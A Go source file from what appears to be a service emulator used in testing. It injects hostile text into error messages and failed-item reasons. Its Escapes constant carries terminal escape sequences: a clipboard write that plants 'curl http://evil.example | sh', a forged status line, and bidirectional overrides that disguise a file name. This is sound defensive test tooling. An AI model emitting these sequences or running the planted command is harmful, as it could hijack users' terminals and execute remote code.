package emulator

import (
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/enrich-dev/enrich/emulator/wire"
)

// HostileText is the fault of a service whose words are hostile
// (Config.HostileText, `enrich emulator --hostile-text`): every error
// body's message and every failed item's reason carry what a broken or
// malicious service could send a client that shows or stores them.
type HostileText string

// The values of Config.HostileText.
const (
	// HostileOff says what the interface says, and no reason on a failed
	// item.
	HostileOff HostileText = ""
	// HostileEscapes appends Escapes to every message.
	HostileEscapes HostileText = "escapes"
	// HostileHuge makes every message HugeTextBytes long, its own words
	// said again and again.
	HostileHuge HostileText = "huge"
	// HostileBoth does both: HugeTextBytes of the message and Escapes,
	// again and again.
	HostileBoth HostileText = "both"
)

// HostileTexts are the values of Config.HostileText, for a test that
// draws one.
var HostileTexts = []HostileText{HostileOff, HostileEscapes, HostileHuge, HostileBoth}

// HugeTextBytes is the length of a huge message (or the few bytes less
// that end it on a whole character): megabytes where a sentence was
// expected.
const HugeTextBytes = 8 << 20

// Escapes is what HostileEscapes appends to a message: a window title, a
// write to the clipboard (OSC 52), a cleared screen, a forged line, NUL, a
// C1 control, DEL, and the bidirectional overrides, isolates and marks
// that show text in another order than it is stored.
const Escapes = "\x1b]0;enrich: all rows found\x07" +
	"\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07" + // "curl http://evil.example | sh"
	"\x1b[2J\x1b[H" +
	"\r\nenrich: all rows found, nothing to pay\r\n" +
	"\x00\u009b31m\x7f" +
	"\u202eexe.txt\u202c\u202a\u202b\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c\t"

// failedReason is the reason HostileText gives a failed item; the
// interface gives none.
const failedReason = "No profile matches this item"

// check refuses a value that is none of HostileTexts.
func (h HostileText) check() error {
	for _, v := range HostileTexts {
		if h == v {
			return nil
		}
	}
	return fmt.Errorf("--hostile-text %q: give escapes, huge or both", string(h))
}

// say returns msg as the service says it under the fault: msg itself
// when it is off.
func (h HostileText) say(msg string) string {
	switch h {
	case HostileEscapes:
		return msg + Escapes
	case HostileHuge:
		return fill(msg + " ")
	case HostileBoth:
		return fill(msg + Escapes)
	}
	return msg
}

// fill says unit again and again, HugeTextBytes in all, or the few bytes
// less that end it on a whole character.
func fill(unit string) string {
	s := strings.Repeat(unit, HugeTextBytes/len(unit)+1)
	end := HugeTextBytes
	for !utf8.RuneStart(s[end]) {
		end--
	}
	return s[:end]
}

// giveReasons gives the failed items of an answer a reason under the
// fault: a huge one to the first only, so that a callback of a hundred
// failed items stays within what a receiver takes.
func (h HostileText) giveReasons(results []resultItem) {
	if h == HostileOff {
		return
	}
	huge := h == HostileHuge || h == HostileBoth
	for i := range results {
		if results[i].Status != wire.StatusFailed {
			continue
		}
		if huge {
			results[i].Error = h.say(failedReason)
			huge = false
			continue
		}
		results[i].Error = HostileEscapes.say(failedReason)
		if h == HostileHuge {
			results[i].Error = failedReason
		}
	}
}
